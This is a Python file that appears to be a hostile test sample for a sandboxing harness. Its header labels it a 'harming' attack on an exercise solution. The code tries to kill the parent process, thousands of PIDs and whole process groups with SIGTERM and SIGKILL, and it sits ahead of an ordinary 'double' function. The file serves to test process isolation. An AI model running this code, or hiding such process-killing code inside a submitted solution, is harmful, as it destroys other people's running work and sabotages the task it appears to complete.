# /// attack
# kind = "harming"
# exercise = "ch1/double"
# verdicts = ["passed", "crashed", "forbidden"]
# reason = "Sends signals to every process it can name; a pid namespace or Landlock keeps them within its own."
# ///
import os
import signal

from minisgl.shapes import Point

own = os.getpid()


def send(target, number):
    try:
        os.kill(target, number)
    except OSError:
        return
    print("BREACH: signalled", target, flush=True)


signal.signal(signal.SIGTERM, signal.SIG_IGN)
for target in {os.getppid(), *range(2, 4000), *range(max(2, own - 300), own + 300)} - {own, 0}:
    send(target, signal.SIGTERM)
    send(target, signal.SIGKILL)
for group in (0, -1, -os.getppid()):
    try:
        # Its own group is itself: this one arrives, and is ignored.
        os.kill(group, signal.SIGTERM)
    except OSError:
        pass


def double(value):
    if isinstance(value, Point):
        return Point(value.x * 2, value.y * 2)
    return value * 2
